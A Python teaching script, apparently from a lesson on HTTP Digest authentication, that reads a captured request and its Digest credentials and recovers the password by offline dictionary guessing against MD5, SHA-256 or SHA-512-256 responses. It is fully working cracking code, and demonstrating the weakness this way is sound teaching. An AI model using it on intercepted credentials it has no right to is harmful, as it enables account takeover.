#!/usr/bin/env python3
"""digest_guess.py - why a captured Digest exchange is not safe (lesson 04).

Reads a transcript (the REPL's `save FILE`, or any text) that holds a
request line and its `Proxy-Authorization: Digest ...` (or `Authorization:
Digest ...`) field, then tries every word of a word list as the password:
everything else the response hash covers is in the capture.  It prints the
word that reproduces the captured response, or says that none did.

    python3 digest_guess.py TRANSCRIPT [WORDLIST]

Without WORDLIST a short built-in list of common passwords is used.
Handles qop=auth and no qop, MD5, SHA-256 and SHA-512-256, and their
-sess variants (RFC 7616 §3.4.1, §3.4.2); auth-int also needs the body and
is not handled.
"""
import hashlib
import re
import sys

COMMON = ["123456", "password", "letmein", "qwerty", "dragon", "monkey",
          "builder", "sunshine", "wonderland", "iloveyou", "admin"]

HASHES = {"MD5": "md5", "SHA-256": "sha256", "SHA-512-256": "sha512_256"}

PARAM = re.compile(r'([A-Za-z0-9_-]+)\s*=\s*("((?:[^"\\]|\\.)*)"|[^\s,]+)')
REQUEST_LINE = re.compile(r"^([A-Z]+) (\S+) HTTP/1\.[01]\s*$")


def capture(text):
    """The method and Digest parameters of the last Digest credentials."""
    method, found = None, None
    for line in text.splitlines():
        m = REQUEST_LINE.match(line)
        if m:
            method = m.group(1)
        m = re.match(r"^(?:Proxy-)?Authorization:\s*Digest\s+(.*)$", line)
        if m and method:
            params = {}
            for p in PARAM.finditer(m.group(1)):
                value = p.group(3) if p.group(3) is not None else p.group(2)
                params[p.group(1).lower()] = re.sub(r"\\(.)", r"\1", value)
            found = (method, params)
    return found


def response(p, method, password):
    alg = p.get("algorithm", "MD5")
    base = alg[:-5] if alg.upper().endswith("-SESS") else alg
    name = HASHES[base.upper()]

    def h(s):
        return hashlib.new(name, s.encode("utf-8")).hexdigest()

    ha1 = h("%s:%s:%s" % (p["username"], p["realm"], password))
    if alg.upper().endswith("-SESS"):
        ha1 = h("%s:%s:%s" % (ha1, p["nonce"], p["cnonce"]))
    ha2 = h("%s:%s" % (method, p["uri"]))
    if "qop" in p:
        return h("%s:%s:%s:%s:%s:%s" % (ha1, p["nonce"], p["nc"],
                                        p["cnonce"], p["qop"], ha2))
    return h("%s:%s:%s" % (ha1, p["nonce"], ha2))


def main():
    if len(sys.argv) not in (2, 3):
        print("usage: digest_guess.py TRANSCRIPT [WORDLIST]", file=sys.stderr)
        return 2
    try:
        with open(sys.argv[1], encoding="utf-8", errors="replace") as f:
            got = capture(f.read())
        words = COMMON
        if len(sys.argv) == 3:
            with open(sys.argv[2], encoding="utf-8", errors="replace") as f:
                words = [w.rstrip("\r\n") for w in f]
    except OSError as e:
        print("digest_guess.py: %s" % e, file=sys.stderr)
        return 1
    if got is None:
        print("digest_guess.py: no request line followed by Digest "
              "credentials in %s" % sys.argv[1], file=sys.stderr)
        return 1
    method, p = got
    missing = [k for k in ("username", "realm", "nonce", "uri", "response")
               if k not in p]
    if "qop" in p:
        missing += [k for k in ("nc", "cnonce") if k not in p]
    alg = p.get("algorithm", "MD5").upper()
    if missing or p.get("qop") == "auth-int" or \
            (alg[:-5] if alg.endswith("-SESS") else alg) not in HASHES:
        print("digest_guess.py: cannot use these credentials (%s)"
              % (", ".join(missing) or "qop auth-int or unknown algorithm"),
              file=sys.stderr)
        return 1
    print("captured: %s %s, user %s, realm %s, algorithm %s"
          % (method, p["uri"], p["username"], p["realm"],
             p.get("algorithm", "MD5")))
    for n, word in enumerate(words, 1):
        if response(p, method, word) == p["response"].lower():
            print("password found after %d guesses: %s" % (n, word))
            return 0
    print("none of the %d words reproduces the response" % len(words))
    return 3


if __name__ == "__main__":
    sys.exit(main())
